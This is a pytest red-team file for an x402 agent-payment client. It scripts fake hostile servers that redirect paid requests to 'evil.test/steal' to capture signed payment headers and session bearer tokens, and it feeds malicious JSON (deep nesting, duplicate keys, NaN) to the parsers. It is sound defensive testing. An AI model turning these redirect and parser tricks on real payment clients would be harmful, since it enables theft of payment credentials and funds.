"""Red team: a hostile x402 server against the paid-request flow (real reference network,
real ledger, scripted server on httpx.MockTransport)."""

from __future__ import annotations

import base64

import httpx
import pytest

from agentguard import Signer
from agentguard._exceptions import PaymentOutcomeUnknown, PaymentRequiredError
from agentguard.ledger import Ledger
from agentguard.x402 import X402Auth
from agentguard.x402._wire import parse_settlement, parse_v1_body, parse_v2_header
from tests.x402.conftest import ALLOWANCES
from tests.x402.fakes import TOKEN, FakeServer, upto_requirement

URL = "http://shop.test/paid"
EVIL = "http://evil.test/steal"


class RedirectingServer(FakeServer):
    """Takes the payment, then answers 307 to another host, which answers 200 with a receipt."""

    def handle(self, request: httpx.Request) -> httpx.Response:
        if request.url.host == "evil.test":
            self.requests.append(request)
            return self.ok(None)
        paid = request.headers.get("PAYMENT-SIGNATURE") is not None
        response = super().handle(request)
        if paid:
            return httpx.Response(307, headers={"Location": EVIL})
        return response


def _leaked(server: RedirectingServer) -> list[httpx.Request]:
    return [
        r for r in server.requests
        if r.url.host == "evil.test" and "PAYMENT-SIGNATURE" in r.headers
    ]  # fmt: skip


@pytest.mark.parametrize("wrapped", [True, False], ids=["auth.client", "httpx.Client"])
def test_a_redirect_after_paying_neither_leaks_nor_settles_the_payment(
    signer: Signer, guard, ledger: Ledger, wrapped: bool
) -> None:
    """Before: with ``follow_redirects=True`` httpx rebuilt the paid request for the
    ``Location`` host with every header but ``Authorization``: another host received the
    signed PAYMENT-SIGNATURE, and its 200 committed the payment as settled. Now
    ``auth.client()`` refuses to carry a payment to another URL, and either client reports
    the outcome as unknown (the payment stays counted)."""
    auth = X402Auth(signer=signer, guard=guard, ledger=ledger, allowances=ALLOWANCES)
    server = RedirectingServer()
    options = {"transport": server.transport(), "follow_redirects": True}
    http = auth.client(**options) if wrapped else httpx.Client(auth=auth, **options)  # type: ignore[arg-type]
    with http, pytest.raises(PaymentOutcomeUnknown) as caught:
        http.get(URL)
    if wrapped:
        assert _leaked(server) == []
    assert len(server.payments) == 1
    held = ledger.get(caught.value.reservation_id or "")
    assert held.state == "signed"  # not committed as settled, not released: still counted
    assert ledger.usage(auth._agent, 3600).spent[TOKEN.lower()] == 10_000


def _b64(raw: bytes) -> str:
    return base64.b64encode(raw).decode()


def test_hostile_json_in_x402_headers_is_refused_typed() -> None:
    """Deep nesting, duplicate keys, NaN/huge numbers in a 402 document or a settlement
    receipt: each is a typed refusal (or no receipt), never a RecursionError or a value one
    parser reads and another does not. Before: duplicate keys were read last-wins
    (``{"success": true, ..., "success": false}``)."""
    deep = b"[" * 5000 + b"]" * 5000
    with pytest.raises(PaymentRequiredError):
        parse_v1_body(deep)
    with pytest.raises(PaymentRequiredError):
        parse_v2_header(_b64(b'{"x402Version":2,' * 1 + b'"x402Version":2,"accepts":[]}'))
    twice = b'{"success":true,"transaction":"0x1","network":"base","success":false}'
    assert parse_settlement(_b64(twice)) is None
    huge = b'{"success":true,"transaction":"0x1","network":"base","amount":1e400}'
    assert parse_settlement(_b64(huge)) is None
    nan = b'{"success":true,"transaction":"0x1","network":"base","amount":NaN}'
    assert parse_settlement(_b64(nan)) is None


class SessionRedirector(FakeServer):
    """Opens an upto session, then answers a request carrying it with 307 to another host."""

    def handle(self, request: httpx.Request) -> httpx.Response:
        if request.url.host == "evil.test":
            self.requests.append(request)
            return httpx.Response(200, json={"stolen": request.headers.get("X-Upto-Session")})
        if request.headers.get("X-Upto-Session") == self.session:
            return httpx.Response(307, headers={"Location": EVIL})
        return super().handle(request)


@pytest.mark.parametrize("wrapped", [True, False], ids=["auth.client", "httpx.Client"])
def test_an_upto_session_token_is_not_carried_to_a_redirects_host(
    signer: Signer, guard, ledger: Ledger, wrapped: bool
) -> None:
    """The X-Upto-Session id is a bearer credential: whoever holds it can charge the agent's
    signed Permit2 maximum at the payee. Before: a request carrying it, answered with a 307
    to another host, was re-sent there with the header (httpx keeps every header but
    Authorization), and the session stayed in use. Now ``auth.client()`` strips it from a
    request to another URL, and any client ends a session whose request was redirected."""
    auth = X402Auth(signer=signer, guard=guard, ledger=ledger, allowances=ALLOWANCES)
    server = SessionRedirector(accepts=[upto_requirement("100000")], session="sess-r", charge=1)
    options = {"transport": server.transport(), "follow_redirects": True}
    http = auth.client(**options) if wrapped else httpx.Client(auth=auth, **options)  # type: ignore[arg-type]
    with http:
        assert http.post(URL).status_code == 200  # pays, opens the session
        assert auth.sessions
        http.post(URL)  # carries the session; redirected
    stolen = [r for r in server.requests if r.url.host == "evil.test"]
    if wrapped:
        assert stolen and all("X-Upto-Session" not in r.headers for r in stolen)
    assert auth.sessions == {}
    assert len(server.payments) == 1


async def test_async_client_refuses_to_carry_a_payment_through_a_redirect(
    signer: Signer, guard, ledger: Ledger
) -> None:
    """The same attack through ``auth.async_client(follow_redirects=True)`` (the async
    transport and the async runner): the other host never sees the payment header."""
    auth = X402Auth(signer=signer, guard=guard, ledger=ledger, allowances=ALLOWANCES)
    server = RedirectingServer()
    async with auth.async_client(transport=server.async_transport(), follow_redirects=True) as http:
        with pytest.raises(PaymentOutcomeUnknown) as caught:
            await http.get(URL)
    assert _leaked(server) == [] and len(server.payments) == 1
    assert ledger.get(caught.value.reservation_id or "").state == "signed"
